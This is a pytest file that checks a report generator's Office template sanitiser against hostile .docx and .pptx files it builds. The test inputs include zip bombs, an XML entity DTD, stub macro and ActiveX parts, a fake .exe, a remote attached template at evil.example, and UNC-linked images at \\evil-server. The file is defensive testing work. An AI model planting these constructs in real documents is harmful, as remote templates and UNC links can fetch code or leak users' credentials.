"""Hostile templates: each made on the fly from a shipped one, each refused with a clear message (exit 1,
no traceback) or built into clean outputs (no external or macro part, valid Open XML, opened by LibreOffice)."""

from __future__ import annotations

import io
import json
import random
import re
import subprocess
import zipfile
from pathlib import Path

import pytest

from reportgen import package
from reportgen.package import sanitise
from reportgen.text import TEMPLATES_DIR
from tests.conftest import FIXTURES, run, to_pdf

DOCX = TEMPLATES_DIR / "briefing.docx"
PPTX = TEMPLATES_DIR / "deck.pptx"
FACTS = FIXTURES / "minimal.yaml"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
EVIL_URL = "https://evil.example/attached.dotm"
UNC = r"\\evil-server\share\logo.png"


def remade(src: Path, dest: Path, edits: dict[str, bytes | None] | None = None,
           compression: int = zipfile.ZIP_DEFLATED) -> Path:
    """A copy of the package src with parts replaced, added (name -> bytes) or removed (name -> None)."""
    edits = dict(edits or {})
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dest, "w", compression) as zout:
        for info in zin.infolist():
            data = edits.pop(info.filename, zin.read(info.filename))
            if data is not None:
                zout.writestr(info.filename, data)
        for name, data in edits.items():
            if data is not None:
                zout.writestr(name, data)
    return dest


def part(src: Path, name: str) -> str:
    with zipfile.ZipFile(src) as z:
        return z.read(name).decode("utf-8")


def with_types(src: Path, *entries: str) -> bytes:
    """[Content_Types].xml of src with Default/Override entries added."""
    return part(src, "[Content_Types].xml").replace("</Types>", "".join(entries) + "</Types>").encode()


def with_rels(src: Path, name: str, *relationships: str) -> bytes:
    """A relationships part of src (or a new one) with Relationship entries added."""
    try:
        text = part(src, name)
    except KeyError:
        return new_rels(*relationships)
    return text.replace("</Relationships>", "".join(relationships) + "</Relationships>").encode()


def new_rels(*relationships: str) -> bytes:
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.'
            'openxmlformats.org/package/2006/relationships">' + "".join(relationships) + "</Relationships>").encode()


def padded(src: Path, name: str, size: int) -> bytes:
    """An XML part of src with `size` bytes of white space before its closing tag: compresses ~1000:1."""
    text = part(src, name)
    close = text.rindex("</")
    return (text[:close] + " " * size + text[close:]).encode()


def build(tmp_path: Path, flag: str, template: Path):
    return run("build", FACTS, "-o", tmp_path / "out", flag, template)


def assert_refused(result, template: Path, *phrases: str) -> None:
    """Exit 1, a message naming the template and saying why, no traceback, nothing written."""
    assert result.exit_code == 1, result.output
    assert str(template) in result.output and "Traceback" not in result.output, result.output
    for phrase in phrases:
        assert phrase in result.output, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit)


def package_parts(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as z:
        return {name: z.read(name) for name in z.namelist()}


def assert_clean(path: Path, *forbidden: str) -> None:
    """No macro part, no attached template, and none of the template's external targets."""
    parts = package_parts(path)
    names = " ".join(parts).lower()
    assert "vba" not in names and "activex" not in names, names
    everything = b"".join(parts.values()).decode("utf-8", "replace")
    assert "macroEnabled" not in everything and "attachedTemplate" not in everything
    for text in forbidden:
        assert text not in everything, f"{text} is still in {path.name}"


# --- the shipped templates pass through unchanged ---------------------------------------------------

@pytest.mark.parametrize("template,kind", [(DOCX, "docx"), (PPTX, "pptx")])
def test_shipped_templates_pass_unchanged(template, kind):
    data, warnings = sanitise(template, kind)
    assert warnings == []
    clean = package_parts_of(data)
    assert clean == package_parts(template)


def package_parts_of(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return {name: z.read(name) for name in z.namelist()}


# --- refused: exit 1 with a clear message --------------------------------------------------------------

def test_zip_bomb_part_is_refused(tmp_path):
    bomb = remade(DOCX, tmp_path / "bomb.docx", {"word/styles.xml": padded(DOCX, "word/styles.xml", 12 * 2**20)})
    assert bomb.stat().st_size < 200_000
    assert_refused(build(tmp_path, "--docx-template", bomb), bomb, "word/styles.xml", "zip bomb")


def test_oversize_xml_part_is_refused(tmp_path):
    presentation = padded(PPTX, "ppt/presentation.xml", 17 * 2**20)
    big = remade(PPTX, tmp_path / "big.pptx", {"ppt/presentation.xml": presentation})
    assert_refused(build(tmp_path, "--pptx-template", big), big, "ppt/presentation.xml", "at most 16.0 MB")


def test_oversize_template_file_is_refused(tmp_path, monkeypatch):
    monkeypatch.setattr(package, "MAX_FILE_BYTES", 30_000)  # the shipped deck is 25 KB; a copy with a picture more
    noise = random.Random(0).randbytes(10_000)  # does not compress
    heavy = remade(PPTX, tmp_path / "heavy.pptx", {"ppt/media/unused.bin": noise})
    with pytest.raises(Exception) as caught:
        sanitise(heavy, "pptx")
    assert "at most" in str(caught.value) and str(heavy) in str(caught.value)


def test_too_many_parts_are_refused(tmp_path):
    crowded = remade(DOCX, tmp_path / "crowded.docx", {f"junk/{n}.xml": b"<a/>" for n in range(package.MAX_PARTS)})
    assert_refused(build(tmp_path, "--docx-template", crowded), crowded, "parts; at most 2,000")


def test_workbook_bomb_nested_in_a_template_is_refused(tmp_path):
    workbook = io.BytesIO()
    sheet = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="http://schemas.'
             'openxmlformats.org/spreadsheetml/2006/main"><sheetData>' + " " * (12 * 2**20)
             + "</sheetData></worksheet>")
    main = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    with zipfile.ZipFile(workbook, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                   '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                   f'<Default Extension="xml" ContentType="{main}.worksheet+xml"/>'
                   f'<Override PartName="/xl/workbook.xml" ContentType="{main}.sheet.main+xml"/></Types>')
        z.writestr("_rels/.rels", new_rels(f'<Relationship Id="rId1" Type="{R}/officeDocument" '
                                           'Target="xl/workbook.xml"/>'))
        z.writestr("xl/workbook.xml", '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>')
        z.writestr("xl/_rels/workbook.xml.rels", new_rels(f'<Relationship Id="rId1" Type="{R}/worksheet" '
                                                          'Target="worksheets/sheet1.xml"/>'))
        z.writestr("xl/worksheets/sheet1.xml", sheet)
    layout_rels = "ppt/slideLayouts/_rels/slideLayout1.xml.rels"
    nested = remade(PPTX, tmp_path / "nested.pptx", {
        "ppt/embeddings/Book1.xlsx": workbook.getvalue(),
        layout_rels: with_rels(PPTX, layout_rels, f'<Relationship Id="rId99" Type="{R}/package" '
                                                  'Target="../embeddings/Book1.xlsx"/>'),
        "[Content_Types].xml": with_types(PPTX, f'<Default Extension="xlsx" ContentType="{main}.sheet"/>'),
    })
    assert nested.stat().st_size < 200_000
    assert_refused(build(tmp_path, "--pptx-template", nested), nested,
                   "part ppt/embeddings/Book1.xlsx/xl/worksheets/sheet1.xml", "zip bomb")


def test_dtd_declaring_an_entity_is_refused(tmp_path):
    styles = part(DOCX, "word/styles.xml").replace(
        "<w:styles ", '<!DOCTYPE w:styles [<!ENTITY brand "Evil Corp">]>\n<w:styles ', 1)
    styles = styles.replace("</w:styles>", "<!-- &brand; --></w:styles>")
    hostile = remade(DOCX, tmp_path / "entity.docx", {"word/styles.xml": styles.encode()})
    assert_refused(build(tmp_path, "--docx-template", hostile), hostile, "word/styles.xml", "declares XML entities")


def test_macro_enabled_deck_renamed_pptx_is_refused(tmp_path):
    types = part(PPTX, "[Content_Types].xml").replace(
        "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
        "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml")
    pptm = remade(PPTX, tmp_path / "renamed.pptx", {"[Content_Types].xml": types.encode()})
    assert_refused(build(tmp_path, "--pptx-template", pptm), pptm, "macro-enabled", "without macros")


def test_encrypted_zip_is_refused(tmp_path):
    data = bytearray(DOCX.read_bytes())
    for match in re.finditer(b"PK\x01\x02", bytes(data)):  # the central directory's general-purpose flags
        data[match.start() + 8] |= 0x1
    locked = tmp_path / "locked.docx"
    locked.write_bytes(bytes(data))
    assert_refused(build(tmp_path, "--docx-template", locked), locked, "encrypted")


def test_password_protected_office_file_is_refused(tmp_path):
    cfb = tmp_path / "protected.docx"  # Office encrypts a document into an OLE compound file
    cfb.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096))
    result = build(tmp_path, "--docx-template", cfb)
    assert result.exit_code == 1 and str(cfb) in result.output and "Traceback" not in result.output
    with pytest.raises(Exception) as caught:
        sanitise(cfb, "docx")
    assert "encrypted (password-protected) or old binary Office file" in str(caught.value)


def test_unsupported_compression_is_refused(tmp_path):
    bzip = remade(PPTX, tmp_path / "bzip.pptx", compression=zipfile.ZIP_BZIP2)
    assert_refused(build(tmp_path, "--pptx-template", bzip), bzip, "unsupported compression method (12)")


def test_malformed_xml_is_refused(tmp_path):
    broken = remade(DOCX, tmp_path / "broken.docx", {"word/styles.xml": part(DOCX, "word/styles.xml")[:5000].encode()})
    assert_refused(build(tmp_path, "--docx-template", broken), broken, "word/styles.xml is not well-formed XML")


def test_damaged_compressed_data_is_refused(tmp_path):
    data = bytearray(DOCX.read_bytes())
    with zipfile.ZipFile(DOCX) as z:
        styles = z.getinfo("word/styles.xml")
    start = styles.header_offset + 30 + len(styles.filename) + len(styles.extra)
    for offset in range(100, 140):  # scramble the deflate stream, leave the zip's structure alone
        data[start + offset] ^= 0x5A
    damaged = tmp_path / "damaged.docx"
    damaged.write_bytes(bytes(data))
    assert_refused(build(tmp_path, "--docx-template", damaged), damaged,
                   "part word/styles.xml cannot be read (the file is damaged")


@pytest.mark.parametrize("template,name,old,new,said", [
    (DOCX, "word/document.xml", '<w:pgSz w:w="11906"', '<w:pgSz w:w="0"', "the page size or margins are missing"),
    (DOCX, "word/document.xml", 'w:left="1134"', 'w:left="99999"', "leave no room for text"),
    (PPTX, "ppt/presentation.xml", "<p:sldSz ", "<p:sldSzX ", "has no slide size"),
], ids=["page-of-no-width", "margins-wider-than-page", "no-slide-size"])
def test_main_part_without_what_the_writers_need_is_refused(tmp_path, template, name, old, new, said):
    text = part(template, name)
    assert old in text
    if new.startswith("<"):  # rename the element, keep the XML well formed
        tag = old.strip("< ")
        text = text.replace(old, new).replace(f"</{tag}>", f"</{new.strip('< ')}>")
    else:
        text = text.replace(old, new)
    broken = remade(template, tmp_path / f"broken{template.suffix}", {name: text.encode()})
    flag = "--docx-template" if template.suffix == ".docx" else "--pptx-template"
    assert_refused(build(tmp_path, flag, broken), broken, said)


@pytest.mark.parametrize("template,name,old,new", [
    (DOCX, "word/styles.xml", 'w:type="paragraph"', 'w:type="bogus"'),
    (PPTX, "ppt/slideLayouts/slideLayout2.xml", '<p:ph type="title"/>', '<p:ph type="bogus"/>'),
], ids=["style-of-no-type", "placeholder-of-no-type"])
def test_well_formed_but_damaged_xml_is_refused(tmp_path, template, name, old, new):
    """python-docx/pptx read lazily: without a trial reading these failed mid-build as 'internal error'."""
    damaged = remade(template, tmp_path / f"damaged{template.suffix}",
                     {name: part(template, name).replace(old, new, 1).encode()})
    flag = "--docx-template" if template.suffix == ".docx" else "--pptx-template"
    library = "python-docx" if template.suffix == ".docx" else "python-pptx"
    assert_refused(build(tmp_path, flag, damaged), damaged, f"it is damaged: {library} cannot read it", "bogus")


def test_unknown_content_type_is_refused(tmp_path):
    rels = "word/_rels/document.xml.rels"
    odd = remade(DOCX, tmp_path / "odd.docx", {
        "word/payload.exe": b"MZ" + bytes(100),
        rels: with_rels(DOCX, rels, f'<Relationship Id="rId99" Type="{R}/package" Target="payload.exe"/>'),
        "[Content_Types].xml": with_types(DOCX, '<Default Extension="exe" ContentType="application/x-msdownload"/>'),
    })
    assert_refused(build(tmp_path, "--docx-template", odd), odd, "word/payload.exe",
                   "content type a template may not carry")


def test_reference_to_a_missing_relationship_is_refused(tmp_path):
    document = part(DOCX, "word/document.xml").replace(
        "<w:pgSz ", '<w:headerReference w:type="default" r:id="rIdNowhere"/><w:pgSz ', 1)
    dangling = remade(DOCX, tmp_path / "dangling.docx", {"word/document.xml": document.encode()})
    assert_refused(build(tmp_path, "--docx-template", dangling), dangling,
                   "part word/document.xml refers to the relationship 'rIdNowhere', which it does not have")


# --- dropped with one warning: the outputs are clean -----------------------------------------------

HEADER = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:hdr xmlns:w="http://schemas.openxmlformats.org/'
          'wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" '
          'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" '
          'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
          'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><w:p>'
          '<w:hyperlink r:id="rIdLink"><w:r><w:t>Template link</w:t></w:r></w:hyperlink>'
          '<w:r><w:drawing><wp:inline><wp:extent cx="91440" cy="91440"/><wp:docPr id="1" name="Remote logo"/>'
          '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic>'
          '<pic:nvPicPr><pic:cNvPr id="1" name="logo"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill>'
          '<a:blip r:link="rIdPic"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm>'
          '<a:off x="0" y="0"/><a:ext cx="91440" cy="91440"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/>'
          '</a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>'
          '<w:r><w:object><w:control r:id="rIdX" w:name="Evil"/></w:object></w:r></w:p></w:hdr>')


def hostile_docx(tmp_path: Path) -> Path:
    """The shipped note template with a remote attached template, a macro project, a UNC-linked picture,
    external hyperlinks, an ActiveX control in a header and a DTD (without entities)."""
    settings = part(DOCX, "word/settings.xml").replace("<w:defaultTabStop", '<w:attachedTemplate r:id="rIdT"/>'
                                                       "<w:defaultTabStop", 1)
    doc_rels = "word/_rels/document.xml.rels"
    font_table = part(DOCX, "word/fontTable.xml").replace("<w:fonts ", "<!DOCTYPE w:fonts>\n<w:fonts ", 1)
    document = part(DOCX, "word/document.xml").replace(
        "<w:pgSz ", '<w:headerReference w:type="default" r:id="rIdHdr"/><w:pgSz ', 1)
    return remade(DOCX, tmp_path / "hostile.docx", {
        "word/document.xml": document.encode(),
        "word/header9.xml": HEADER.encode(),
        "word/_rels/header9.xml.rels": new_rels(
            f'<Relationship Id="rIdLink" Type="{R}/hyperlink" Target="https://evil.example/header" '
            'TargetMode="External"/>',
            f'<Relationship Id="rIdPic" Type="{R}/image" Target="file://///evil-server/share/h.png" '
            'TargetMode="External"/>',
            f'<Relationship Id="rIdX" Type="{R}/control" Target="activeX/activeX1.xml"/>'),
        "word/activeX/activeX1.xml": b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
                                     b'ax:classid="{00000000-0000-0000-0000-000000000000}"/>',
        "word/settings.xml": settings.encode(),
        "word/_rels/settings.xml.rels": with_rels(DOCX, "word/_rels/settings.xml.rels", (
            f'<Relationship Id="rIdT" Type="{R}/attachedTemplate" Target="{EVIL_URL}" TargetMode="External"/>')),
        "word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro project",
        "word/fontTable.xml": font_table.encode(),
        doc_rels: with_rels(DOCX, doc_rels,
                            f'<Relationship Id="rIdHdr" Type="{R}/header" Target="header9.xml"/>',
                            '<Relationship Id="rIdV" Type="http://schemas.microsoft.com/office/2006/relationships/'
                            'vbaProject" Target="vbaProject.bin"/>',
                            f'<Relationship Id="rIdP" Type="{R}/image" Target="{UNC}" TargetMode="External"/>',
                            f'<Relationship Id="rIdH" Type="{R}/hyperlink" Target="https://evil.example/phish" '
                            'TargetMode="External"/>'),
        "[Content_Types].xml": with_types(
            DOCX, '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>',
            '<Override PartName="/word/activeX/activeX1.xml" ContentType="application/vnd.ms-office.activeX+xml"/>',
            '<Override PartName="/word/header9.xml" ContentType="application/vnd.openxmlformats-officedocument.'
            'wordprocessingml.header+xml"/>'),
    })


def hostile_pptx(tmp_path: Path) -> Path:
    """The shipped deck template with a UNC-linked picture and an external hyperlink on its slide master
    (so on every slide), and a macro project."""
    master = "ppt/slideMasters/slideMaster1.xml"
    picture = ('<p:pic><p:nvPicPr><p:cNvPr id="99" name="Linked logo"><a:hlinkClick r:id="rIdEvil2"/></p:cNvPr>'
               '<p:cNvPicPr/><p:nvPr userDrawn="1"/></p:nvPicPr><p:blipFill><a:blip r:link="rIdEvil1"/><a:stretch>'
               '<a:fillRect/></a:stretch></p:blipFill><p:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="91440" '
               'cy="91440"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr></p:pic>')
    master_rels = "ppt/slideMasters/_rels/slideMaster1.xml.rels"
    pres_rels = "ppt/_rels/presentation.xml.rels"
    return remade(PPTX, tmp_path / "hostile.pptx", {
        master: part(PPTX, master).replace("</p:spTree>", picture + "</p:spTree>", 1).encode(),
        master_rels: with_rels(PPTX, master_rels,
                               f'<Relationship Id="rIdEvil1" Type="{R}/image" Target="{UNC}" TargetMode="External"/>',
                               f'<Relationship Id="rIdEvil2" Type="{R}/hyperlink" Target="https://evil.example/phish" '
                               'TargetMode="External"/>'),
        "ppt/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro project",
        pres_rels: with_rels(PPTX, pres_rels, '<Relationship Id="rIdV" Type="http://schemas.microsoft.com/office/2006/'
                                              'relationships/vbaProject" Target="vbaProject.bin"/>'),
        "[Content_Types].xml": with_types(PPTX, '<Override PartName="/ppt/vbaProject.bin" '
                                                'ContentType="application/vnd.ms-office.vbaProject"/>'),
    })


def test_one_warning_names_what_was_dropped_from_a_note_template(tmp_path):
    template = hostile_docx(tmp_path)
    clean, warnings = sanitise(template, "docx")
    assert len(warnings) == 1, warnings
    warning = warnings[0]
    for said in ("a macro project (word/vbaProject.bin)", "an ActiveX control (word/activeX/activeX1.xml)",
                 f"an attached template '{EVIL_URL}'", "4 external links", "evil-server", "https://evil.example/phish",
                 "the DTD of word/fontTable.xml"):
        assert said in warning, warning
    parts = package_parts_of(clean)
    assert "word/vbaProject.bin" not in parts and "word/activeX/activeX1.xml" not in parts
    header = parts["word/header9.xml"].decode()
    assert "Template link" in header and "w:hyperlink" not in header and "w:control" not in header
    assert "<a:blip/>" in header and "rIdPic" not in header
    assert b"attachedTemplate" not in parts["word/settings.xml"]
    assert b"External" not in b"".join(v for k, v in parts.items() if k.endswith(".rels"))
    assert b"DOCTYPE" not in parts["word/fontTable.xml"]


def test_one_warning_names_what_was_dropped_from_a_deck_template(tmp_path):
    template = hostile_pptx(tmp_path)
    clean, warnings = sanitise(template, "pptx")
    assert warnings == [f"{template}: dropped from the template: a macro project (ppt/vbaProject.bin); "
                        f"2 external links ('{UNC}', 'https://evil.example/phish')"]
    master = package_parts_of(clean)["ppt/slideMasters/slideMaster1.xml"].decode()
    assert "rIdEvil" not in master and "hlinkClick" not in master and "<a:blip/>" in master


@pytest.mark.parametrize("flag,maker,suffix", [("--docx-template", hostile_docx, "docx"),
                                               ("--pptx-template", hostile_pptx, "pptx")])
def test_build_with_a_hostile_template_writes_clean_outputs(tmp_path, flag, maker, suffix, validator, soffice):
    template = maker(tmp_path)
    result = build(tmp_path, flag, template)
    assert result.exit_code == 0, result.output
    assert result.output.count("dropped from the template") == 1, result.output
    output = tmp_path / "out" / f"{FACTS.stem}.{suffix}"
    assert_clean(output, "evil.example", "evil-server", "rIdEvil")
    report = subprocess.run([validator, str(output)], capture_output=True, text=True, timeout=120)
    assert json.loads(report.stdout)["ok"], report.stdout[:2000]
    pdf = to_pdf(soffice, output, tmp_path)
    text = subprocess.run(["pdftotext", str(pdf), "-"], capture_output=True, text=True).stdout
    assert "Tariffs fall" in text


def test_dotx_and_potx_templates_open_as_documents(tmp_path):
    ct = "application/vnd.openxmlformats-officedocument."
    dotx = remade(DOCX, tmp_path / "t.dotx", {"[Content_Types].xml": part(DOCX, "[Content_Types].xml").replace(
        ct + "wordprocessingml.document.main+xml", ct + "wordprocessingml.template.main+xml").encode()})
    potx = remade(PPTX, tmp_path / "t.potx", {"[Content_Types].xml": part(PPTX, "[Content_Types].xml").replace(
        ct + "presentationml.presentation.main+xml", ct + "presentationml.template.main+xml").encode()})
    result = run("build", FACTS, "-o", tmp_path / "out", "--docx-template", dotx, "--pptx-template", potx)
    assert result.exit_code == 0, result.output
